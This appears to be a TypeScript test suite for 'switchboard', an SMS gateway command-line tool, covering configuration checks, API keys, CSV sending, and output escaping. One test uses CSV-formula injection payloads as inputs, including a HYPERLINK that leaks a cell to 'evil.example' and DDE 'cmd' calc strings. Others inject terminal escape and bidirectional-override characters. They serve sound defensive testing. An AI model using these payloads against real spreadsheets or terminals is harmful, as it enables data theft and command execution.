import { execFile } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import Database from 'better-sqlite3';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runCli } from '../helpers/cli.js';
import { TWILIO_SID, TWILIO_TOKEN } from '../helpers/carriers.js';
import { freePort, startSendGateway, TWILIO_FROM, type SendGateway } from '../helpers/send-gateway.js';
import { waitReady } from '../helpers/process.js';
import { until } from '../helpers/wait.js';

const dir = () => mkdtempSync(join(tmpdir(), 'switchboard-cli-'));
/** A password in URLs that nothing may print. */
const PASSWORD = 'hunter2-s3cret';
/** A configuration `serve` would accept: Twilio receiving, a database file, an API key. */
const healthy = (database: string) => ({
  TWILIO_ACCOUNT_SID: TWILIO_SID,
  TWILIO_AUTH_TOKEN: TWILIO_TOKEN,
  PUBLIC_BASE_URL: 'https://sms.example.com',
  DATABASE_URL: database,
  SWITCHBOARD_API_KEYS: 'an-api-key-of-24-chars!!',
});

describe('switchboard doctor', () => {
  it('passes a healthy configuration with exit code 0', async () => {
    const database = join(dir(), 'ok.db');
    expect((await runCli(['migrate'], healthy(database))).code).toBe(0);
    const { code, stdout } = await runCli(['doctor'], healthy(database));
    expect(stdout).toContain('[ ok ] configuration: every variable is valid');
    expect(stdout).toContain('[ ok ] PUBLIC_BASE_URL is https (https://sms.example.com)');
    expect(stdout).toMatch(/\[ ok \] database .*ok\.db: reachable, \d+ migrations applied/);
    expect(stdout).toContain('[ ok ] API keys: 0 in the database, 1 in SWITCHBOARD_API_KEYS');
    expect(stdout).not.toContain('[FAIL]');
    expect(code).toBe(0);
  });

  it('says precisely what is wrong, every problem at once, with exit code 1', async () => {
    const base = dir();
    const notADatabase = join(base, 'garbage.db');
    writeFileSync(
      notADatabase,
      'this is not an SQLite file, just text that is long enough to look at'.repeat(20),
    );
    const config = join(base, 'switchboard.json');
    // Telnyx only receives here (no TELNYX_API_KEY), so a route to it can never send.
    writeFileSync(config, JSON.stringify({ routes: [{ toPrefix: '+44', provider: 'telnyx' }] }));
    const { code, stdout } = await runCli(['doctor'], {
      TWILIO_ACCOUNT_SID: TWILIO_SID, // the token is missing
      TELNYX_PUBLIC_KEY: Buffer.alloc(16).toString('base64'), // 16 bytes, not 32
      PUBLIC_BASE_URL: 'http://sms.example.com',
      DATABASE_URL: notADatabase,
      SWITCHBOARD_CONFIG: config,
    });
    expect(code).toBe(1);
    const fails = stdout.split('\n').filter((l) => l.startsWith('[FAIL]'));
    const expected = [
      'TWILIO_ACCOUNT_SID is set but TWILIO_AUTH_TOKEN is not',
      'TELNYX_PUBLIC_KEY entry 1 must be the base64 of a 32-byte Ed25519 public key',
      'routes[0].provider names telnyx, but Telnyx has no API key (TELNYX_API_KEY)',
      'PUBLIC_BASE_URL is not https (http://sms.example.com)',
      'is unreachable: file is not a database',
      // Not "no API key": a database that cannot be read may hold keys.
    ];
    for (const text of expected)
      expect(
        fails.some((l) => l.includes(text)),
        text,
      ).toBe(true);
    expect(fails).toHaveLength(expected.length);
    expect(stdout).toContain(`${expected.length} problems to fix`);
  });

  it('reports a database that cannot be reached: a path under a file', async () => {
    const file = join(dir(), 'a-file');
    writeFileSync(file, 'x');
    const { code, stdout } = await runCli(['doctor'], healthy(join(file, 'switchboard.db')));
    expect(code).toBe(1);
    expect(stdout).toContain(
      `[FAIL] database ${join(file, 'switchboard.db')} is unreachable: ${file} is a file`,
    );
  });

  it('warns of pending migrations and of http on loopback, and fails on verification turned off', async () => {
    const database = join(dir(), 'old.db');
    new Database(database).close(); // exists, empty: every migration pending
    const { code, stdout } = await runCli(['doctor'], {
      ...healthy(database),
      PUBLIC_BASE_URL: 'http://127.0.0.1:3000',
      UNSAFE_SKIP_WEBHOOK_VERIFICATION: 'true',
    });
    expect(stdout).toMatch(/\[warn\] database .*old\.db: \d+ migration\(s\) pending \(0000_init, /);
    expect(stdout).toContain('[warn] PUBLIC_BASE_URL is not https (http://127.0.0.1:3000)');
    expect(stdout).toContain('[FAIL] UNSAFE_SKIP_WEBHOOK_VERIFICATION=true');
    expect(code).toBe(1);
  });
});

describe('switchboard migrate and keys', () => {
  it('creates the database, then finds it up to date', async () => {
    const database = join(dir(), 'new.db');
    const first = await runCli(['migrate'], healthy(database));
    expect(first.code).toBe(0);
    expect(first.stdout).toMatch(/^Created .*new\.db: applied 0000_init, .*0003_api_keys/);
    const again = await runCli(['migrate'], healthy(database));
    expect(again.stdout).toMatch(/is up to date \(\d+ migrations\)/);
  });

  it(
    'creates keys shown once and stored hashed, lists them, revokes them; bad input is a usage error',
    { timeout: 60_000 },
    async () => {
      const database = join(dir(), 'keys.db');
      const env = healthy(database);
      expect((await runCli(['migrate'], env)).code).toBe(0);
      const created = await runCli(
        ['keys', 'create', '--name', 'billing app', '--scopes', 'send,read', '--rate-limit', '120'],
        env,
      );
      expect(created.code).toBe(0);
      const key = created.stdout.trim().split('\n').at(-1) as string;
      expect(key).toMatch(/^sb_[0-9a-f]{12}_[A-Za-z0-9_-]{43}$/);
      const id = key.slice('sb_'.length, 'sb_'.length + 12);

      const listed = await runCli(['keys', 'list'], env);
      expect(listed.stdout).toMatch(
        new RegExp(`${id}\\s+billing app\\s+send,read\\s+120/min\\s+\\S+\\s+active`),
      );
      expect(listed.stdout).not.toContain(key.slice('sb_'.length + 13));
      const db = new Database(database, { readonly: true });
      const rows = JSON.stringify(db.prepare('SELECT * FROM api_keys').all());
      db.close();
      expect(rows).not.toContain(key.slice('sb_'.length + 13));

      const revoked = await runCli(['keys', 'revoke', id], env);
      expect(revoked.stdout).toContain(`Revoked API key ${id} "billing app"`);
      expect((await runCli(['keys', 'list'], env)).stdout).toMatch(new RegExp(`${id}.*revoked \\d{4}-`));

      const bad = [
        [['keys', 'create', '--scopes', 'send'], 'needs --name'],
        [
          ['keys', 'create', '--name', 'x', '--scopes', 'send,write'],
          '--scopes must list some of send, read, admin',
        ],
        [
          ['keys', 'create', '--name', 'x', '--scopes', 'read', '--rate-limit', 'lots'],
          '--rate-limit must be a positive integer',
        ],
        [['keys', 'create', '--name', 'x', '--scopes', 'read', '--unknown'], "Unknown option '--unknown'"],
        [['keys', 'rotate'], 'keys needs an action: create, list or revoke'],
      ] as const;
      const outcomes = await Promise.all(bad.map(([args]) => runCli([...args], env)));
      outcomes.forEach((result, i) => {
        const [args, message] = bad[i] as (typeof bad)[number];
        expect(result.code, args.join(' ')).toBe(2);
        expect(result.stderr).toContain(message);
      });
      const missing = await runCli(['keys', 'revoke', '000000000000'], env);
      expect(missing.code).toBe(1);
      expect(missing.stderr).toContain('No API key has the id "000000000000"');

      // A key must go where the gateway reads: no database is created for it.
      const elsewhere = join(dir(), 'nowhere.db');
      const noDb = await runCli(['keys', 'create', '--name', 'x', '--scopes', 'read'], healthy(elsewhere));
      expect(noDb.code).toBe(1);
      expect(noDb.stderr).toContain(`There is no database at ${elsewhere}`);
      expect(noDb.stderr).toContain("'switchboard migrate'");
      expect(existsSync(elsewhere)).toBe(false);
    },
  );

  it('prints usage for no command and an unknown one', async () => {
    const none = await runCli([]);
    expect(none.code).toBe(2);
    expect(none.stdout).toContain('Usage: switchboard <command>');
    const unknown = await runCli(['frobnicate']);
    expect(unknown.code).toBe(2);
    expect(unknown.stderr).toContain('Unknown command "frobnicate"');
  });
});

describe('switchboard against a running gateway', () => {
  let gw: SendGateway;
  let database: string;
  let env: Record<string, string>;
  beforeAll(async () => {
    database = join(dir(), 'gateway.db');
    gw = await startSendGateway({
      env: { DATABASE_URL: database, API_RATE_LIMIT_PER_MINUTE: '3' },
      // Three requests per 1.5 s per key: a CSV of single-row batches must wait for the limit to reset.
      deps: { rateLimitWindowMs: 1_500 },
    });
    const created = await runCli(['keys', 'create', '--name', 'cli', '--scopes', 'send,read'], {
      ...healthy(database),
    });
    env = {
      SWITCHBOARD_URL: gw.base,
      SWITCHBOARD_API_KEY: created.stdout.trim().split('\n').at(-1) as string,
    };
  });
  afterAll(async () => gw.close());

  it('sends one message and follows it to delivered; shows and lists it', async () => {
    const sent = await runCli(['send', '--to', '+14155550161', '--body', 'from the CLI', '--wait'], env);
    expect(sent.code).toBe(0);
    const id = sent.stdout.split(/\s+/)[0] as string;
    expect(sent.stdout).toMatch(new RegExp(`${id}\\s+twilio\\s+queued`));
    expect(sent.stdout).toMatch(new RegExp(`${id}\\s+twilio\\s+delivered`));
    expect((await gw.store.getMessage(id))?.body).toBe('from the CLI');

    const shown = await runCli(['messages', 'show', id], env);
    expect(shown.stdout).toContain(`${id}  outbound via twilio  delivered`);
    expect(shown.stdout).toMatch(/Status history:\n.*queued[\s\S]*delivered/);
    // The receipt's own time as Twilio wrote it (minute precision, no zone), beside the time it arrived.
    expect(shown.stdout).toMatch(/ delivered {2}\(twilio: delivered\) {2}carrier time \d{10}\n/);
    const listed = await runCli(['messages', 'list', '--to', '+14155550161'], env);
    expect(listed.stdout).toMatch(
      new RegExp(
        `${id}.*out\\s+twilio\\s+${TWILIO_FROM.replace('+', '\\+')}\\s+\\+14155550161\\s+delivered\\s+from the CLI`,
      ),
    );
    const asJson = JSON.parse((await runCli(['messages', 'list', '--limit', '1', '--json'], env)).stdout);
    expect(asJson.data).toHaveLength(1);

    const refused = await runCli(['send', '--to', 'nobody', '--body', 'x'], env);
    expect(refused.code).toBe(1);
    expect(refused.stderr).toContain('invalid_phone_number');
    const unknown = await runCli(['messages', 'show', 'no-such-id'], env);
    expect(unknown.stderr).toContain('message_not_found');
  });

  it(
    'sends a CSV within the rate limit, with progress, a summary and a results file; a second run sends nothing new',
    { timeout: 60_000 },
    async () => {
      const base = dir();
      const csv = join(base, 'campaign.csv');
      writeFileSync(
        csv,
        [
          'to,body,provider',
          '+14155550171,"Hello, one",twilio',
          '+14155550172,two,telnyx',
          'not-a-number,three,',
          '+14155550174,"four ""quoted""",',
          '+14155550175,five,telnyx',
          '+14155550176,six,',
          '+14155550177,seven,',
        ].join('\n'),
      );
      const before = (await gw.store.listMessages({ direction: 'outbound' }, { limit: 200 })).data.length;
      const run = await runCli(['send', '--csv', csv, '--batch-size', '1'], env);
      expect(run.code).toBe(1); // one row refused
      // Seven single-row batches at three per window: the limit was reached and waited out.
      expect(run.stderr).toMatch(/rate limit(ed)?(,| reached)/);
      expect(run.stderr).toMatch(/queued\s+\[#+\] 7\/7/);
      expect(run.stderr).toMatch(/final\s+\[#+\] 6\/6/);
      expect(run.stdout).toContain('7 row(s) from');
      expect(run.stdout).toContain('6 accepted, 1 refused.');
      expect(run.stdout).toContain('Refused: invalid_phone_number x1.');

      const results = readFileSync(join(base, 'campaign.results.csv'), 'utf8').trim().split('\n');
      expect(results[0]).toBe('row,to,message_id,provider,status,error_code,error_message,sent_earlier');
      expect(results).toHaveLength(8);
      // A cell starting with + is a formula to a spreadsheet: written with a leading '.
      expect(results[1]).toMatch(/^1,'\+14155550171,[0-9a-f-]{36},twilio,delivered,,,$/);
      expect(results[2]).toMatch(/^2,'\+14155550172,[0-9a-f-]{36},telnyx,delivered,,,$/);
      expect(results[3]).toMatch(/^3,not-a-number,,,refused,invalid_phone_number,/);
      const fourId = results[4]?.split(',')[2] as string;
      expect((await gw.store.getMessage(fourId))?.body).toBe('four "quoted"');
      const after = (await gw.store.listMessages({ direction: 'outbound' }, { limit: 200 })).data.length;
      expect(after - before).toBe(6);

      // Interrupted or repeated: the same file is the same messages.
      const again = await runCli(['send', '--csv', csv, '--results', join(base, 'again.csv')], env);
      expect(again.stdout).toContain('6 accepted, 1 refused.');
      expect(again.stdout).toContain(
        '6 of them had been sent earlier (same idempotency key) and were not sent again.',
      );
      expect((await gw.store.listMessages({ direction: 'outbound' }, { limit: 200 })).data.length).toBe(
        after,
      );
      expect(readFileSync(join(base, 'again.csv'), 'utf8')).toContain(fourId);
    },
  );

  it(
    'with --campaign, sends only the rows a corrected file adds or changes',
    { timeout: 60_000 },
    async () => {
      const csv = join(dir(), 'promo.csv');
      const outbound = async () =>
        (await gw.store.listMessages({ direction: 'outbound' }, { limit: 200 })).data;
      writeFileSync(csv, 'to,body\n+14155550191,promo\n+14155550192,prmo typo\n+14155550193,promo\n');
      const first = await runCli(['send', '--csv', csv, '--campaign', 'spring', '--no-wait'], env);
      expect(first.stdout).toContain('3 accepted, 0 refused.');
      const before = (await outbound()).length;
      // Row 2 corrected and a row added above it: row numbers move, content decides.
      writeFileSync(
        csv,
        'to,body\n+14155550190,promo\n+14155550191,promo\n+14155550192,promo\n+14155550193,promo\n',
      );
      const second = await runCli(['send', '--csv', csv, '--campaign', 'spring', '--no-wait'], env);
      expect(second.stdout).toContain('4 accepted, 0 refused.');
      const all = await outbound();
      const added = all.slice(0, all.length - before);
      expect(added.map((m) => [m.to, m.body]).sort()).toEqual([
        ['+14155550190', 'promo'],
        ['+14155550192', 'promo'],
      ]);
    },
  );

  it('checks before sending that it can follow statuses and write the results', async () => {
    const created = await runCli(
      ['keys', 'create', '--name', 'send only', '--scopes', 'send'],
      healthy(database),
    );
    const sendOnly = created.stdout.trim().split('\n').at(-1) as string;
    const csv = join(dir(), 'list.csv');
    writeFileSync(csv, 'to,body\n+14155550195,hi\n');
    const count = async () =>
      (await gw.store.listMessages({ to: '+14155550195' }, { limit: 10 })).data.length;
    const refused = await runCli(['send', '--csv', csv], { ...env, SWITCHBOARD_API_KEY: sendOnly });
    expect(refused.code).toBe(2);
    expect(refused.stderr).toContain('cannot read messages (the read scope)');
    expect(refused.stderr).toContain('Nothing was sent.');
    const unwritable = await runCli(['send', '--csv', csv, '--results', join(csv, 'results.csv')], env);
    expect(unwritable.code).toBe(1);
    expect(unwritable.stderr).toContain('Cannot write the results to');
    const ontoItself = await runCli(['send', '--csv', csv, '--results', csv], env);
    expect(ontoItself.code).toBe(2);
    expect(ontoItself.stderr).toContain('--results names the CSV file itself');
    expect(readFileSync(csv, 'utf8')).toBe('to,body\n+14155550195,hi\n');
    const single = await runCli(['send', '--to', '+14155550195', '--body', 'x', '--wait'], {
      ...env,
      SWITCHBOARD_API_KEY: sendOnly,
    });
    expect(single.code).toBe(2);
    expect(single.stderr).toContain('Nothing was sent.');
    expect(await count()).toBe(0);
    // --no-wait needs no read scope.
    const sent = await runCli(['send', '--csv', csv, '--no-wait'], { ...env, SWITCHBOARD_API_KEY: sendOnly });
    expect(sent.stdout).toContain('1 accepted, 0 refused.');
    expect(await count()).toBe(1);
  });

  it('prints control characters of a message as text, never to the terminal', async () => {
    await gw.sim.injectInbound({
      provider: 'twilio',
      from: '+14155550196',
      to: TWILIO_FROM,
      body: 'hi \u001b]0;owned\u0007 there\nline two',
      webhookUrl: `${gw.base}/webhooks`,
    });
    await until(
      async () => (await gw.store.listMessages({ from: '+14155550196' }, { limit: 1 })).data.length === 1,
      5000,
      'the inbound message',
    );
    const listed = await runCli(['messages', 'list', '--from', '+14155550196'], env);
    expect(listed.stdout).toContain('hi \\x1b]0;owned\\x07 there line two');
    const id = (await gw.store.listMessages({ from: '+14155550196' }, { limit: 1 })).data[0]?.id as string;
    const shown = await runCli(['messages', 'show', id], env);
    expect(shown.stdout).toContain('hi \\x1b]0;owned\\x07 there\nline two');
    expect(shown.stdout).not.toContain('\u001b');
    expect(listed.stdout).not.toContain('\u001b');
  });

  it('writes no formula into the results CSV: cells starting with = + - @, tab or CR get a leading quote', async () => {
    const base = dir();
    const csv = join(base, 'formulas.csv');
    const rows = [
      '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
      "@SUM(1+1)*cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      '+14155550183',
    ];
    writeFileSync(csv, stringify([['to', 'body'], ...rows.map((to) => [to, 'hi'])]));
    const run = await runCli(['send', '--csv', csv, '--no-wait'], env);
    expect(run.stdout).toContain('1 accepted, 3 refused.');
    // Read back as a spreadsheet would split it: every "to" cell is text, none a formula.
    const results = parse(readFileSync(join(base, 'formulas.results.csv'), 'utf8'), { columns: true }) as {
      to: string;
      status: string;
      error_code: string;
    }[];
    expect(results.map((r) => r.to)).toEqual(rows.map((to) => `'${to}`));
    expect(results.map((r) => r.status)).toEqual(['refused', 'refused', 'refused', 'queued']);
    for (const cell of results.flatMap((r) => Object.values(r))) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('prints bidirectional and zero-width characters of a message escaped', async () => {
    // U+202E turns what follows around on screen; U+200B and U+FEFF are invisible; U+2066..U+2069 isolate.
    const body = 'pay \u202e0001$\u202c to \u2066+14155550100\u2069 now\u200b\ufeff\u200e\u061c\u2060';
    await gw.sim.injectInbound({
      provider: 'twilio',
      from: '+14155550198',
      to: TWILIO_FROM,
      body,
      webhookUrl: `${gw.base}/webhooks`,
    });
    await until(
      async () => (await gw.store.listMessages({ from: '+14155550198' }, { limit: 1 })).data.length === 1,
      5000,
      'the inbound message',
    );
    const escaped =
      'pay \\u202e0001$\\u202c to \\u2066+14155550100\\u2069 now\\u200b\\ufeff\\u200e\\u061c\\u2060';
    const id = (await gw.store.listMessages({ from: '+14155550198' }, { limit: 1 })).data[0]?.id as string;
    const shown = await runCli(['messages', 'show', id], env);
    expect(shown.stdout).toContain(escaped);
    const listed = await runCli(['messages', 'list', '--from', '+14155550198'], env);
    expect(listed.stdout).toContain('pay \\u202e0001$\\u202c to \\u2066+14155550100');
    for (const out of [shown.stdout, listed.stdout]) {
      expect(out).not.toMatch(/[\u202a-\u202e\u2066-\u2069\u200e\u200f\u061c\u200b-\u200d\u2060\ufeff]/);
    }
    // A column name in a CSV header is printed escaped too.
    const csv = join(dir(), 'bidi.csv');
    writeFileSync(csv, 'to,\u202ebody\n+14155550181,hi\n');
    const refused = await runCli(['send', '--csv', csv], env);
    expect(refused.stderr).toContain('unknown: \\u202ebody');
    expect(refused.stderr).not.toContain('\u202e');
  });

  it('escapes C1 controls and every invisible character, in its text and in its --json, which stays equal', async () => {
    // U+009B is CSI (an escape sequence's start on many terminals); U+0085 NEL; U+00AD soft hyphen; U+2061-U+2064
    // invisible operators; U+E0041 a tag character; U+FE0F a variation selector; U+061C, U+202E bidirectional.
    const body =
      'ok\u009b31m \u0085\u007f 10\u00ad00 +1\u20614\u2064 \u{e0041}\u{e007f} \u061c\u202eabc\ufe0f';
    const from = '+14155550197';
    await gw.sim.injectInbound({
      provider: 'twilio',
      from,
      to: TWILIO_FROM,
      body,
      webhookUrl: `${gw.base}/webhooks`,
    });
    await until(
      async () => (await gw.store.listMessages({ from }, { limit: 1 })).data.length === 1,
      5000,
      'the inbound message',
    );
    const id = (await gw.store.listMessages({ from }, { limit: 1 })).data[0]?.id as string;
    const raw = /[\u007f-\u009f\p{Default_Ignorable_Code_Point}\p{Cf}]/u;

    const shown = await runCli(['messages', 'show', id], env);
    expect(shown.stdout).toContain(
      'ok\\x9b31m \\x85\\x7f 10\\u00ad00 +1\\u20614\\u2064 \\u{e0041}\\u{e007f} \\u061c\\u202eabc\\ufe0f',
    );
    const showJson = await runCli(['messages', 'show', id, '--json'], env);
    const listJson = await runCli(['messages', 'list', '--from', from, '--json'], env);
    for (const out of [shown.stdout, showJson.stdout, listJson.stdout]) expect(out).not.toMatch(raw);
    // Escaped as JSON escapes: the same JSON, parsed.
    expect(showJson.stdout).toContain('ok\\u009b31m \\u0085\\u007f 10\\u00ad00');
    expect(showJson.stdout).toContain('\\udb40\\udc41');
    expect(JSON.parse(showJson.stdout)).toMatchObject({ id, body });
    expect(JSON.parse(listJson.stdout).data).toEqual([expect.objectContaining({ id, body })]);
  });

  it('refuses a CSV with an unknown column, and explains a missing key or an unreachable gateway', async () => {
    const csv = join(dir(), 'typo.csv');
    writeFileSync(csv, 'to,bdy\n+14155550181,hi\n');
    const typo = await runCli(['send', '--csv', csv], env);
    expect(typo.code).toBe(1);
    expect(typo.stderr).toContain('unknown: bdy');
    const noKey = await runCli(['messages', 'list'], { SWITCHBOARD_URL: gw.base });
    expect(noKey.code).toBe(2);
    expect(noKey.stderr).toContain('No API key: set SWITCHBOARD_API_KEY or pass --key');
    const down = await runCli(['messages', 'list', '--url', `http://127.0.0.1:${await freePort()}`], env);
    expect(down.code).toBe(1);
    expect(down.stderr).toMatch(/Cannot reach the gateway at http:\/\/127\.0\.0\.1:\d+ \(ECONNREFUSED\)/);
    // A gateway URL with a password is refused without printing it.
    const withPassword = await runCli(
      ['messages', 'list', '--url', `http://ops:${PASSWORD}@127.0.0.1:1`],
      env,
    );
    expect(withPassword.code).toBe(2);
    expect(withPassword.stderr).toContain('must not carry a user name or password (http://***@127.0.0.1:1)');
    expect(withPassword.stderr).not.toContain(PASSWORD);
  });
});

describe('configuration errors from the CLI', () => {
  it('never echo the user name and password of a URL', async () => {
    const base = dir();
    const env = {
      ...healthy(join(base, 'gateway.db')),
      PUBLIC_BASE_URL: `ftp://admin:${PASSWORD}@sms.example.com`,
      TWILIO_API_BASE_URL: `ftp://AC:${PASSWORD}@twilio-proxy.internal`,
      TELNYX_API_BASE_URL: `ftp://KEY:${PASSWORD}@telnyx-proxy.internal/v2`,
      APP_WEBHOOK_URL: `https://app:${PASSWORD}@app.example.com/sms`,
      APP_WEBHOOK_SECRET: `whsec_${'A'.repeat(43)}=`,
    };
    const run = await runCli(['serve'], env);
    expect(run.code).toBe(1);
    const out = run.stdout + run.stderr;
    expect(out).toContain('PUBLIC_BASE_URL must be an absolute http(s) URL');
    expect(out).toContain('"ftp://***@sms.example.com"');
    expect(out).toContain('"ftp://***@twilio-proxy.internal"');
    expect(out).toContain('"ftp://***@telnyx-proxy.internal/v2"');
    expect(out).toContain('APP_WEBHOOK_URL must not carry a user name or password');
    expect(out).not.toContain(PASSWORD);
    // `keys` reads only the database settings (it needs no carrier credentials): it never quotes the others.
    const keys = await runCli(['keys', 'list'], env);
    expect(keys.code).toBe(1);
    expect(keys.stdout + keys.stderr).not.toContain(PASSWORD);
  });

  it('refuse a DATABASE_URL with an unsupported scheme by name, never as a file', async () => {
    const env = { ...healthy('unused'), DATABASE_URL: `postgres://switchboard:${PASSWORD}@db.internal/sb` };
    for (const command of [['serve'], ['keys', 'list']]) {
      const run = await runCli(command, env);
      expect(run.code, command.join(' ')).toBe(1);
      expect(run.stderr).toContain('DATABASE_URL is a postgres:// URL (postgres://***@db.internal/sb)');
      expect(run.stderr).not.toContain(PASSWORD);
    }
    // Nothing was created where SQLite would have taken the URL for a path (relative to the working directory).
    expect(existsSync('postgres:')).toBe(false);
  });
});

describe('switchboard serve and simulate', () => {
  it('serve runs the gateway until SIGTERM', async () => {
    const port = await freePort();
    const { spawn } = await import('node:child_process');
    const child = spawn(process.execPath, ['--import', 'tsx', 'src/cli/main.ts', 'serve'], {
      env: {
        PATH: process.env.PATH,
        ...healthy(join(dir(), 'serve.db')),
        PORT: String(port),
        LOG_LEVEL: 'warn',
      },
      stdio: 'ignore',
    });
    const exited = new Promise<number | null>((resolve) => child.on('exit', resolve));
    await waitReady(`http://127.0.0.1:${port}`);
    child.kill('SIGTERM');
    expect(await exited).toBe(0);
  });

  it('simulate runs the provider simulator and says what to set on the gateway', async () => {
    const port = await freePort();
    const { spawn } = await import('node:child_process');
    const child = spawn(
      process.execPath,
      ['--import', 'tsx', 'src/cli/main.ts', 'simulate', '--port', String(port)],
      {
        env: { PATH: process.env.PATH },
        stdio: ['ignore', 'pipe', 'pipe'],
      },
    );
    let out = '';
    child.stdout.on('data', (d) => (out += d));
    const exited = new Promise<number | null>((resolve) => child.on('exit', resolve));
    try {
      await until(() => out.includes('TELNYX_PUBLIC_KEY='), 15_000, 'the simulator to start');
      expect(out).toContain(`Provider simulator listening on http://127.0.0.1:${port}`);
      await until(() => out.includes('SIMULATOR_CONTROL_TOKEN='), 5_000, 'the control token');
      const token = /SIMULATOR_CONTROL_TOKEN=(\S+)/.exec(out)?.[1];
      expect((await fetch(`http://127.0.0.1:${port}/_sim/stats`)).status).toBe(401);
      const stats = await fetch(`http://127.0.0.1:${port}/_sim/stats`, {
        headers: { authorization: `Bearer ${token}` },
      });
      expect(stats.status).toBe(200);
    } finally {
      child.kill('SIGTERM');
      await exited;
    }
  });
});

describe('npx switchboard', () => {
  // package.json's bin points at the build (npm ci builds it: the `prepare` script).
  it('runs the built CLI through package.json bin', async () => {
    expect(existsSync('dist/cli/main.js')).toBe(true);
    const { stdout } = await promisify(execFile)('npx', ['--no-install', 'switchboard', '--version']);
    expect(stdout.trim()).toBe(JSON.parse(readFileSync('package.json', 'utf8')).version);
  });
});
